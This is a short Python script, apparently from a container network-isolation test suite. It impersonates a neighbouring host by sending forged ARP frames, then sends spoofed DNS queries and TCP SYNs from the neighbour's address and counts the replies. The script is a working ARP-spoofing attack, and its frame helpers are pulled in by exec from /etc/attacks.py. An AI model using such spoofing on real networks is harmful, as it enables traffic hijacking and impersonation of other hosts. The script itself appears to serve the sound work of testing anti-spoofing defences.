"""Poses as a neighbour: `neighbour.py GATEWAY NEIGHBOUR NAME`, as root in a container that may send any frame.

Sends ARP that claims the neighbour's address, and then, from its address, a DNS query for NAME over UDP and a SYN to port 53
and 80, with this container's MAC and with the neighbour's. Prints what came back for it.
"""

import socket
import struct
import sys
import time

sys.argv[1:] = [sys.argv[1], sys.argv[2], "0.0.0.0", "::", "0.0.0.0", sys.argv[3]]
# The parts of frames are those of the attacks, which are not made here.
source = open("/etc/attacks.py", encoding="utf-8").read().split("ATTEMPTS = {")[0]
exec(compile(source, "attacks.py", "exec"))

name = sys.argv[6]
query = b"\0\7\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0\0\1\0\1"
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind((DEVICE, 0))
for mac in (MAC, NEXT):
    send(arp(2, NEIGHBOUR, ROUTER, GATEWAY, ROUTER, source=MAC), arp(1, NEIGHBOUR, b"\0" * 6, GATEWAY, source=mac))
    send(frame(ip(NEIGHBOUR, "8.8.8.8", 17, udp(53, query)), ROUTER, source=mac))
    for port in (53, 80):
        send(frame(ip(NEIGHBOUR, "11.0.0.10", 6, tcp(NEIGHBOUR, "11.0.0.10", port)), ROUTER, source=mac))
wire.settimeout(0.5)
until, came = time.monotonic() + 3, 0
while time.monotonic() < until:
    try:
        packet = wire.recv(2000)
    except TimeoutError:
        continue
    if packet[12:14] == b"\x08\0" and packet[30:34] == socket.inet_aton(NEIGHBOUR) and packet[6:12] == ROUTER:
        came += 1
print("answers for the neighbour:", came)
